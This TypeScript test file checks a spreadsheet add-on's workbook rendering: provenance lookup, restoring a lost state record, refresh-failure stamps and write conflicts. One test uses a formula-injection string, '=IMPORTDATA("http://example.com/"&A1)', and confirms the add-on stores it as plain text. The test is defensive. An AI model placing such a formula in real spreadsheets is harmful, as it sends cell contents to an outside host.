/** What makes a workbook trustworthy: where a number comes from, whether its record holds, whether a refresh failed. */

import type { CivilDate } from '../../../src/core/calendar/civil-date.ts';
import { locateCell } from '../../../src/workbook/render/locate-cell.ts';
import { planMark } from '../../../src/workbook/render/plan-mark.ts';
import { planRender } from '../../../src/workbook/render/plan-render.ts';
import { readStamp, readTrouble } from '../../../src/workbook/render/stamp.ts';
import type { Cell, Provenance, Workbook } from '../../../src/workbook/tab.ts';
import { Desk, STAMP } from './desk.ts';
import { block, cell, columns, row, sales, tab, text, workbook } from './tables.ts';

const PROVENANCE: Provenance = {
  metricId: 'revenue',
  definitionVersion: 3,
  grain: 'week',
  periodStart: '2024-01-08' as CivilDate,
  standing: 'drifted',
  dataAsOf: '2024-01-14' as CivilDate,
};
const TWO = sales(['A', 1], ['B', 2]);

function one(value: Cell): Workbook {
  const table = { ...block('t.b', columns('a'), []), rows: [{ key: 'k', cells: { a: value } }] };
  return workbook(tab('t', [table]));
}

function stamped(refreshedAt: string): Workbook {
  const stamp = { ...text(`Refreshed ${refreshedAt}`), style: 'stamp' } as const;
  const rows = [{ key: 'stamp', cells: { a: stamp } }, row(columns('a'), 'value')];
  return workbook(tab('t', [{ ...block('t.b', columns('a'), []), rows }]));
}

test('A number tells its block, row, column and provenance, wherever people moved it', () => {
  const desk = new Desk();
  desk.render(one({ ...cell(5), provenance: PROVENANCE }));
  desk.insertRows('t', 0, 2);
  desk.insertColumns('t', 0);
  const sheetId = desk.sheetId('t');
  expect(locateCell(desk.read(), { sheetId, row: 3, column: 1 })).toEqual({
    tabId: 't',
    blockId: 't.b',
    rowKey: 'k',
    columnId: 'a',
    a1: 'B4',
    numberBeside: 'B4',
    input: false,
    written: 5,
    edited: false,
    provenance: PROVENANCE,
  });
  desk.type('t', 3, 1, 6);
  expect(locateCell(desk.read(), { sheetId, row: 3, column: 1 })?.edited).toBe(true);
  expect(locateCell(desk.read(), { sheetId, row: 0, column: 0 })).toBeUndefined();
});

test('New provenance of an equal number is written to the record', () => {
  const desk = new Desk();
  desk.render(one({ ...cell(5), provenance: PROVENANCE }));
  const standing = { ...PROVENANCE, standing: 'canonical' } as const;
  const plan = desk.render(one({ ...cell(5), provenance: standing }));
  expect(plan).toMatchObject({ changed: true, cellsWritten: 0 });
  const place = { sheetId: desk.sheetId('t'), row: 1, column: 0 };
  expect(locateCell(desk.read(), place)?.provenance?.standing).toBe('canonical');
});

test('A cell of a copied tab is not governed', () => {
  const desk = new Desk();
  desk.render(one({ ...cell(5), provenance: PROVENANCE }));
  const sourceSheetId = desk.sheetId('t');
  desk.apply([{ duplicateSheet: { sourceSheetId, newSheetName: 'copy' } }]);
  const place = { sheetId: desk.sheetId('copy'), row: 1, column: 0 };
  expect(locateCell(desk.read(), place)).toBeUndefined();
});

test.each([
  ['deleted', 'missing'],
  ['changed', 'damaged'],
])(
  'When the record is %s everything governed is restored and people’s cells stay',
  (how, record) => {
    const desk = new Desk();
    desk.render(TWO);
    desk.type('sales', 2, 1, 999);
    desk.type('sales', 2, 5, 'mine');
    if (how === 'changed') desk.type('Countersign state', 1, 1, '{}');
    else desk.apply([{ deleteSheet: { sheetId: desk.sheetId('Countersign state') } }]);
    const plan = desk.render(TWO);
    expect(plan).toMatchObject({ record, findings: [] });
    expect(desk.entered('sales')).toEqual([
      ['NAME', 'AMOUNT'],
      ['A', 1],
      ['B', 2, undefined, undefined, undefined, 'mine'],
    ]);
    expect(desk.render(TWO)).toMatchObject({ record: 'kept', requests: [] });
  },
);

test('When the record is lost, old rows inside a block are marked as not governed', () => {
  const desk = new Desk();
  desk.render(sales(['A', 1], ['B', 2], ['C', 3]));
  desk.apply([{ deleteSheet: { sheetId: desk.sheetId('Countersign state') } }]);
  desk.render(sales(['A', 1], ['C', 3]));
  expect(desk.entered('sales')[2]).toEqual(['B', 2]);
  expect(desk.cell('sales', 2, 0).note).toMatch(/not governed/);
});

test('A failed refresh shows in the stamp and in the metadata; the next good one clears both without a finding', () => {
  const desk = new Desk();
  desk.render(stamped('08:00'));
  const trouble = {
    kind: 'failed',
    message: 'BigQuery is out of reach.',
    at: '2024-01-15T09:00:00Z',
  } as const;
  desk.apply(planMark(desk.read(), trouble));
  expect(desk.entered('t')[1]).toEqual([
    '⚠ Refresh failed 2024-01-15 09:00 UTC: BigQuery is out of reach. Figures below are of 2024-01-14.',
  ]);
  expect(readTrouble(desk.read())).toEqual(trouble);
  const plan = desk.render(stamped('10:00'));
  expect(plan.findings).toEqual([]);
  expect(desk.entered('t')[1]).toEqual(['Refreshed 10:00']);
  expect(readTrouble(desk.read())).toBeUndefined();
});

test('A stamp alone never causes a write, but goes along with a new data-as-of day', () => {
  const desk = new Desk();
  desk.render(stamped('08:00'));
  expect(desk.render(stamped('09:00')).changed).toBe(false);
  const stamp = { ...STAMP, dataAsOf: '2024-01-15' as CivilDate };
  expect(desk.render(stamped('10:00'), stamp).changed).toBe(true);
  expect(desk.entered('t')[1]).toEqual(['Refreshed 10:00']);
  expect(readStamp(desk.read())?.dataAsOf).toBe('2024-01-15');
});

test('The stamp is the last request of a batch', () => {
  const { requests } = planRender({ current: new Desk().read(), workbook: TWO, stamp: STAMP });
  const metadata = requests[requests.length - 1]?.createDeveloperMetadata?.developerMetadata;
  expect(metadata?.metadataKey).toBe('countersign.stamp');
});

test('Of two refreshes that read the same workbook only the first can write', () => {
  const desk = new Desk();
  desk.render(TWO);
  const current = desk.read();
  const workbookOne = sales(['A', 5], ['B', 2]);
  const [first, second] = [workbookOne, sales(['A', 6], ['B', 2])].map((next) =>
    planRender({ current, workbook: next, stamp: STAMP }),
  );
  desk.apply(first?.requests ?? []);
  expect(() => desk.apply(second?.requests ?? [])).toThrow(/developerMetadata/i);
  expect(desk.entered('sales')[1]).toEqual(['A', 5]);
});

test('Text from data is never a formula', () => {
  const desk = new Desk();
  desk.render(one(text('=IMPORTDATA("http://example.com/"&A1)')));
  expect(desk.cell('t', 1, 0).userEnteredValue).toEqual({
    stringValue: '=IMPORTDATA("http://example.com/"&A1)',
  });
});

test('Numbers that a cell can not hold are blank with a note; texts that are too long are cut with a mark', () => {
  const desk = new Desk();
  desk.render(one(cell(Number.NaN)));
  expect(desk.entered('t')[1]).toBeUndefined();
  expect(desk.cell('t', 1, 0).note).toBe('Not a finite number (NaN).');
  desk.render(one(text('x'.repeat(60_000))));
  const shown = desk.cell('t', 1, 0).userEnteredValue?.stringValue ?? '';
  expect(shown).toHaveLength(50_000);
  expect(shown).toMatch(/\[cut: 60000 characters\]$/);
  expect(desk.render(one(text('x'.repeat(60_000)))).changed).toBe(false);
});

test('A link leads to the tab of its id in every locale, without a formula', () => {
  const desk = new Desk();
  const link = one({ value: { kind: 'tab-link', text: 'Go', tabId: 'sales' } });
  desk.render(workbook(...link.tabs, ...TWO.tabs));
  const { userEnteredValue, userEnteredFormat } = desk.cell('t', 1, 0);
  expect(userEnteredValue).toEqual({ stringValue: 'Go' });
  expect(userEnteredFormat?.textFormat?.link?.uri).toBe(`#gid=${desk.sheetId('sales')}`);
});

test('A note of the add-on that people removed comes back; a note of people stays', () => {
  const desk = new Desk();
  const noted = one({ ...cell(1), note: 'Not official: drifted.' });
  desk.render(noted);
  const start = { sheetId: desk.sheetId('t'), rowIndex: 0, columnIndex: 0 };
  desk.apply([
    {
      updateCells: {
        start,
        rows: [{ values: [{ note: 'ours' }] }, { values: [{}] }],
        fields: 'note',
      },
    },
  ]);
  desk.render(noted);
  expect(desk.cell('t', 0, 0).note).toBe('ours');
  expect(desk.cell('t', 1, 0).note).toBe('Not official: drifted.');
});
